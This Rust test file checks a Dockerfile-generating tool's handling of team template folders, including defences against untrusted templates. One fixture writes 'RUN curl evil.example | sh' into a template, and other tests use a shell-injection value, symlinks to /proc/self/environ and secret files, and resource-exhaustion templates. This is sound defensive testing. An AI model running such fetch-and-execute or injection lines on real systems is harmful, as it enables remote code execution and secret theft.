//! A team's own templates: languages that are added, and single templates that take the place of built-in ones.

use std::path::{Path, PathBuf};

use crate::folder::{Folder, tree};

fn team() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/templates")
}

/// A project's folder with a copy of the team's templates above it, where a test may change them.
pub fn beside_templates() -> (Folder, PathBuf) {
    let folder = Folder::empty();
    let templates = folder.above().join("templates");
    for (path, text) in tree(&team()) {
        write(&templates, &path, &text);
    }
    (folder, templates)
}

pub fn write(templates: &Path, path: &str, text: &str) {
    let path = templates.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn a_language_from_a_folder_is_like_a_built_in_one() {
    let folder = Folder::empty();
    let team = team();
    let flags = ["--templates", team.to_str().unwrap(), "--language", "perl", "--memory", "1G"];
    folder.new_with(&flags).succeeds();
    let dockerfile = folder.read("Dockerfile");
    for part in ["FROM perl:5.44.0-slim-trixie AS runtime", "carton install --deployment", "USER 10001:10001"] {
        assert!(dockerfile.contains(part), "no `{part}` in {dockerfile}");
    }
    assert!(folder.read("app.pl").contains("Hello from shop"));
    assert!(folder.has("cpanfile"));
    let compose = folder.read("compose.yaml");
    let variable = "      # A quarter of the memory limit.\n      MOJO_MAX_MEMORY_SIZE: ${MOJO_MAX_MEMORY_SIZE:-256}\n";
    assert!(compose.contains(variable), "{compose}");
}

#[test]
fn an_app_in_such_a_language_is_found_with_its_evidence() {
    let folder = Folder::empty().with("cpanfile", "requires 'Plack';\n").with("app.psgi", "sub {}\n");
    let team = team();
    let run = folder.new_with(&["--templates", team.to_str().unwrap(), "--dry-run"]).succeeds();
    let run = run.prints("(detected in cpanfile)").prints("(detected in app.psgi)");
    run.says("there is no cpanfile.snapshot, which the image is built from; `carton install` makes it");
}

#[test]
fn a_single_template_takes_the_place_of_the_built_in_one() {
    let folder = Folder::empty();
    let team = team();
    folder.new_with(&["--templates", team.to_str().unwrap(), "--language", "go"]).succeeds();
    assert_eq!(
        folder.read(".env.example"),
        "# Acme's settings for shop: ask #platform before you change PORT.\nPORT=8080\n"
    );
    assert!(folder.read("Dockerfile").contains("go build"));
}

#[test]
fn the_answers_name_the_folder_and_the_next_run_finds_it() {
    let (folder, templates) = beside_templates();
    folder.new_with(&["--templates", "../templates", "--language", "perl"]).succeeds();
    assert!(folder.read("dockgen.toml").contains("templates = \"../templates\"\n"));
    let before = folder.files();
    folder.dockgen(&["new"]).succeeds();
    assert_eq!(folder.files(), before);
    std::fs::remove_dir_all(templates).unwrap();
    folder.dockgen(&["new"]).fails_with(2).says("../templates").says("are not allowed yet");
}

#[test]
fn a_preset_may_name_the_folder_beside_it() {
    let (folder, _) = beside_templates();
    let preset = folder.above().join("team.toml");
    std::fs::write(&preset, "templates = \"templates\"\nlanguage = \"perl\"\n").unwrap();
    folder.dockgen(&["preset", "check", "../team.toml"]).succeeds();
    folder.dockgen(&["preset", "show", "../team.toml"]).succeeds().prints("carton");
    folder.new_with(&["--preset", "../team.toml"]).succeeds();
    // The preset that is extended names it already.
    assert!(!folder.read("dockgen.toml").contains("templates ="));
    folder.dockgen(&["new"]).succeeds().says("unchanged");
}

#[test]
fn the_list_of_languages_has_the_teams_too() {
    let folder = Folder::empty();
    let team = team();
    let run = folder.dockgen(&["languages", "--templates", team.to_str().unwrap()]).succeeds();
    run.prints("perl").prints("carton").prints("python");
    let run = folder.dockgen(&["languages", "--images", "--templates", team.to_str().unwrap()]).succeeds();
    run.prints("perl:5.44.0-slim-trixie\n");
}

/// Each mistake, and what is said of it, with the file that it is in.
#[test]
fn a_mistake_in_a_template_is_told_with_its_file_and_writes_nothing() {
    for (path, text, told) in [
        ("perl/language.toml", "title = \"Perl\"\n", "missing field `framework`"),
        ("perl/language.toml", "titel = \"Perl\"\n", "unknown field `titel`"),
        ("perl/Dockerfile.tera", "FROM {= image.biuld =}\n", "biuld"),
        ("perl/Dockerfile.tera", "FROM {= image.build\n", "Dockerfile.tera"),
        ("perl/package-managers/carton.tera", "{% if %}", "carton.tera"),
        ("perl/mojo/starter/app.pl.tera", "{= nmae =}", "nmae"),
    ] {
        let (folder, templates) = beside_templates();
        write(&templates, path, text);
        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
        run.says(told).says(path).does_not_say("please report").does_not_say("\u{fffd}");
        assert!(folder.files().is_empty(), "{path}: {text}");
    }
}

#[test]
fn what_a_language_says_has_to_go_together() {
    let (folder, templates) = beside_templates();
    let text = tree(&templates)["perl/language.toml"].replace("default = true\n", "");
    write(&templates, "perl/language.toml", &text.replace("framework = \"mojo\"", "framework = \"dancer\""));
    let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
    run.says("0 of `versions` have `default = true`")
        .says("0 of `variants` have")
        .says("`framework` names dancer, and there is no dancer/framework.toml");
}

#[test]
fn a_language_that_lacks_a_template_is_told() {
    let (folder, templates) = beside_templates();
    std::fs::remove_file(templates.join("perl/dockerignore.tera")).unwrap();
    let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
    run.says("perl/dockerignore.tera").says("no folder has it");
}

#[test]
fn a_folder_that_cannot_be_used_is_told() {
    let folder = Folder::empty().with("file", "x");
    folder
        .new_with(&["--templates", "nowhere", "--language", "go"])
        .fails_with(2)
        .says("nowhere")
        .says("it is no folder");
    folder.new_with(&["--templates", "file", "--language", "go"]).fails_with(2).says("it is no folder");
    let (folder, templates) = beside_templates();
    std::fs::write(templates.join("perl/mojo/starter/logo.png"), b"\x89PNG\xff\xfe").unwrap();
    let run = folder.new_with(&["--templates", "../templates", "--language", "go"]).fails_with(2);
    run.says("logo.png").says("it is not UTF-8");
}

/// A repository whose `dockgen.toml` names templates that it brings along.
fn hostile_repository() -> Folder {
    let folder = Folder::empty().with(".git/config", "[core]\n");
    folder.write("dockgen.toml", "templates = \"ci\"\nlanguage = \"go\"\n");
    folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl evil.example | sh\n");
    folder
}

#[test]
fn templates_that_nobody_named_are_used_only_when_they_are_allowed() {
    let folder = hostile_repository();
    let before = folder.files();
    for more in [&[][..], &["--dry-run"], &["--diff"], &["--json"], &["--quiet"]] {
        let run = folder.new_with(more).fails_with(2);
        run.says("ci, named by ").says("dockgen.toml:1, are not allowed yet").says("--templates ");
    }
    assert_eq!(folder.files(), before);
    folder.new_with(&["--templates", "ci"]).succeeds().says("Using the templates in ci (named by --templates)");
    assert!(folder.read("Dockerfile").contains("evil.example"));
    // Allowed from now on, until they change.
    folder.dockgen(&["new"]).succeeds().says("Using the templates in ").says("dockgen.toml:1)");
    folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl eviler.example | sh\n");
    folder.dockgen(&["new"]).fails_with(2).says("have changed since you allowed them");
}

#[test]
fn the_json_tells_which_templates_are_used_and_who_named_them() {
    let folder = hostile_repository();
    let json = folder.new_with(&["--templates", "ci", "--json", "--quiet"]).succeeds().stdout;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["templates"], serde_json::json!({ "folder": "ci", "named_by": "--templates" }));
    assert!(json["preset"].as_str().unwrap().ends_with("shop/dockgen.toml"));
    // To look is not to allow.
    folder.new_with(&[]).fails_with(2);
}

#[cfg(unix)]
#[test]
fn the_folder_of_templates_is_never_left_nor_followed_without_end() {
    use std::os::unix::fs::symlink;

    let (folder, templates) = beside_templates();
    let refused = |name: &str, said: &str| {
        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
        std::fs::remove_file(templates.join(name)).unwrap();
    };
    let key = folder.above().join("key");
    std::fs::write(&key, "SECRET").unwrap();
    let starter = "perl/mojolicious/starter";
    std::fs::create_dir_all(templates.join(starter)).unwrap();
    for (name, target) in [("notes.md", key.as_path()), ("up.md", Path::new("../../../../key"))] {
        symlink(target, templates.join(starter).join(name)).unwrap();
        refused(&format!("{starter}/{name}"), "it is behind a symlink that leads out of the folder");
    }
    symlink("/proc/self/environ", templates.join("perl/_environ.tera")).unwrap();
    refused("perl/_environ.tera", "it is behind a symlink that leads out of the folder");
    for target in ["..", ".", "mojo"] {
        symlink(target, templates.join("perl/fan")).unwrap();
        refused("perl/fan", "it is a symlink to a folder, which is not followed");
    }
    let pipe = templates.join("perl/pipe.tera");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    refused("perl/pipe.tera", "it is a named pipe, not a regular file");
    std::fs::File::create(templates.join("perl/sparse.tera")).unwrap().set_len(5_000_000_000).unwrap();
    refused("perl/sparse.tera", "it is larger than 4 MiB");
}

#[test]
fn a_sign_of_a_language_is_looked_for_below_the_project_alone() {
    let (folder, templates) = beside_templates();
    std::fs::write(folder.above().join("netrc"), "password SECRET\n").unwrap();
    folder.write("cpanfile", "requires 'Plack';\n");
    let toml = std::fs::read_to_string(templates.join("perl/language.toml")).unwrap();
    for file in [folder.above().join("netrc").to_str().unwrap(), "../netrc"] {
        let sign = format!("[[project.entrypoint_signs]]\nfile = \"{file}\"\nbegins = \"password \"\n\n");
        let at = toml.find("[[project.").unwrap_or(toml.len());
        let (before, after) = toml.split_at(at);
        write(&templates, "perl/language.toml", &format!("{before}{sign}{after}"));
        let run = folder.new_with(&["--templates", "../templates", "--dry-run"]);
        assert!(!run.stdout.contains("SECRET") && !run.stderr.contains("SECRET"), "{}{}", run.stdout, run.stderr);
    }
}

/// Each would take all time or all memory, or the stack.
#[test]
fn what_templates_take_is_bounded() {
    let bound = "rendering them takes more than 5 s or 1024 MiB of memory";
    let (loops, ends) = ("{% for a in range(end=10) %}".repeat(12), "{% endfor %}".repeat(12));
    let doubled = format!("{{% set a = \"aaaaaaaa\" %}}{}", "{% set a = a ~ a %}".repeat(60));
    let written = format!("{{% set a = \"aaaaaaaa\" %}}{}{{= a =}}", "{% set a = a ~ a %}".repeat(24));
    let nested = format!("{{= {}1{} =}}", "(".repeat(200_000), ")".repeat(200_000));
    for (text, told) in [
        (format!("{loops}{ends}"), bound),
        (doubled, bound),
        (written, bound),
        (nested, ""),
        ("{% include \"perl/Dockerfile.tera\" %}".to_owned(), ""),
    ] {
        let (folder, templates) = beside_templates();
        write(&templates, "perl/Dockerfile.tera", &text);
        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
        run.says("cannot use the templates in ../templates").says(told);
        assert!(folder.files().is_empty());
    }
}

#[test]
fn before_templates_are_allowed_nothing_in_their_folder_is_looked_at() {
    let folder = Folder::empty().with(".git/config", "[core]\n").with("dockgen.toml", "templates = \"../keys\"\n");
    let keys = folder.above().join("keys/deep");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("prod-root.key"), b"\xff\xfe").unwrap();
    let run = folder.new_with(&["--language", "go"]).fails_with(2);
    run.says("are not allowed yet").does_not_say("prod-root");
}

#[test]
fn a_flag_to_copy_is_quoted_for_the_shell() {
    let folder = Folder::empty().with("dockgen.toml", "templates = \"t; id #\"\n");
    folder.new_with(&["--language", "go"]).fails_with(2).says("allowed: --templates '").says("t; id #', which names");
}

/// The files are written by then.
#[cfg(unix)]
#[test]
fn what_cannot_be_remembered_is_a_warning() {
    let folder = Folder::empty();
    std::fs::create_dir_all(folder.above().join("settings/dockgen")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", folder.above().join("settings/dockgen/allowed.toml")).unwrap();
    let run = folder.new_with(&["--templates", team().to_str().unwrap(), "--language", "go"]).succeeds();
    run.says("warning: cannot remember what you allowed: ").says("Next:");
}

/// A language's data would be written out, or looked up, without end.
#[test]
fn a_language_has_bounds() {
    let (folder, templates) = beside_templates();
    let toml = std::fs::read_to_string(templates.join("perl/language.toml")).unwrap();
    let refused = |toml: &str, said: &str| {
        write(&templates, "perl/language.toml", toml);
        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
    };
    refused(&toml.replace("patch = \"5.44.0\"", &format!("patch = \"{}\"", "9".repeat(100_000))), "is no version");
    refused(&toml.replace("perl:{patch}", &"{patch}".repeat(30_000)), "is no image");
    refused(&toml.replace("perl:{patch}", "perl\\nRUN evil"), "is no image");
    let sources: Vec<String> = (0..3000).map(|number| format!("\"x{number}\"")).collect();
    let many = toml.replacen("[project]\n", &format!("[project]\nsources = [{}]\n", sources.join(", ")), 1);
    refused(&many, "`project.sources` has 3000 entries, and at most 100 are allowed");
}

#[test]
fn templates_whose_files_clash_are_refused() {
    for (name, said) in [
        ("dockgen.toml", "`dockgen.toml` is written by two templates"),
        ("Dockerfile", "`Dockerfile` is written by two templates"),
        ("Dockerfile/x", "`Dockerfile/x` lies below another file"),
        (".tera", "`` is not the path of a file"),
        (".dockgen-staging/0", "is in the folder where dockgen stages new files"),
    ] {
        let (folder, templates) = beside_templates();
        write(&templates, &format!("perl/mojo/starter/{name}"), "text\n");
        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
        assert!(folder.files().is_empty());
    }
}
